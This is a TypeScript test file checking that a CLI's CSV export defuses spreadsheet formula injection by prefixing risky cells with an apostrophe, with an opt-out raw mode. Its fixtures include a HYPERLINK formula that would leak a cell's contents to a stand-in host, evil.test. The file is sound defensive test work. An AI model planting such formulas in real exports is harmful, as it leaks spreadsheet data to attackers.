// CSV exports are safe to open in a spreadsheet (issue 29 item 5, OWASP CSV injection): a cell or a key
// that starts with =, +, -, @, TAB or CR gets a leading apostrophe; numbers (JSON numbers, and text that
// is a plain number) are untouched; `--csv-raw` (the panel: apiWorkbench.export.csvFormulas = raw) writes
// them as they came. The rule at csvField, then `apiwb run --out x.csv` over loopback, walk and single.
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { csvField } from '../../src/core/export/csvSink';
import { startLocalServer, type LocalServer } from './localServer';
import { runInProcess } from './inProcess';

const ROWS = [
  { name: '=HYPERLINK("http://evil.test/?"&A1,"click")', '@key': 'plain', n: -5, text: '-5', note: '+1 555 0100' },
  { name: '@SUM(1+1)', '@key': '\tTAB', n: 3.5, text: '+2e3', note: '\r=1' },
];

void describe('CSV formula cells', () => {
  void it('csvField: every formula start is neutralised, everything else as it was', () => {
    const cases: [unknown, string][] = [
      ['=1+1', "'=1+1"], ['+cmd', "'+cmd"], ['-cmd', "'-cmd"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\r=1', '"\'\r=1"'],
      ['=a,b', '"\'=a,b"'], ['=say "x"', '"\'=say ""x"""'],
      [-5, '-5'], ['-5', '-5'], ['+3.25', '+3.25'], ['-1e-3', '-1e-3'], ['.5', '.5'],
      ['-', "'-"], ['--5', "'--5"], ['- 5', "'- 5"], ['a=1', 'a=1'], [' =1', ' =1'], ['', ''], [null, ''], [true, 'true'],
      [{ x: '=1' }, '"{""x"":""=1""}"'],
    ];
    for (const [value, expected] of cases) assert.equal(csvField(value), expected, JSON.stringify(value));
    for (const [value] of cases) {
      const raw = csvField(value, 'raw');
      assert.ok(!raw.startsWith("'") && !raw.startsWith(`"'`), `raw writes ${JSON.stringify(value)} as it came`);
    }
  });

  let local: LocalServer | undefined;
  let dir = '';
  let envFile = '';
  let file = '';
  before(async () => {
    local = await startLocalServer('apiwb-csv-formulas-', (req, res) => {
      const url = new URL(req.url ?? '/', 'http://x');
      const page = Number(url.searchParams.get('page') ?? 1);
      res.writeHead(200, { 'Content-Type': 'application/json', 'X-Pagination-Page': String(page), 'X-Pagination-Total-Pages': '2', 'X-Pagination-Total-Results': '4' });
      res.end(JSON.stringify(ROWS.map((row, i) => ({ id: page * 10 + i, ...row }))));
    });
    ({ dir, envFile } = local);
    file = join(dir, 'rows.http');
    writeFileSync(file, ['# @name rows', '# @paging page-headers', 'GET {{base}}/rows', ''].join('\n'));
  });
  after(() => local?.close());

  const lines = (path: string): string[] => readFileSync(path, 'utf8').split('\r\n').filter(Boolean);

  void it('apiwb run --all-pages --out x.csv: keys and cells neutralised on every page, numbers untouched, exit 0', async () => {
    const out = join(dir, 'walk.csv');
    const r = await runInProcess([file, '--env', 'local', '--env-file', envFile, '--all-pages', '--out', out]);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    assert.match(r.stdout, /4 rows/);
    const [header, first, second, third] = lines(out);
    assert.equal(header, "id,name,'@key,n,text,note,_extra");
    assert.equal(first, `10,"'=HYPERLINK(""http://evil.test/?""&A1,""click"")",plain,-5,-5,'+1 555 0100,`);
    assert.equal(second, `11,'@SUM(1+1),'\tTAB,3.5,+2e3,"'\r=1",`);
    assert.equal(third, first.replace('10,', '20,'), 'the second page too');
    assert.equal(lines(out).length, 5);
  });

  void it('--csv-raw writes them as the service sent them', async () => {
    const out = join(dir, 'raw.csv');
    const r = await runInProcess([file, '--env', 'local', '--env-file', envFile, '--out', out, '--csv-raw']);
    assert.equal(r.code, 0, r.stdout + r.stderr);
    const [header, first] = lines(out);
    assert.equal(header, 'id,name,@key,n,text,note,_extra');
    assert.equal(first, `10,"=HYPERLINK(""http://evil.test/?""&A1,""click"")",plain,-5,-5,+1 555 0100,`);
  });
});
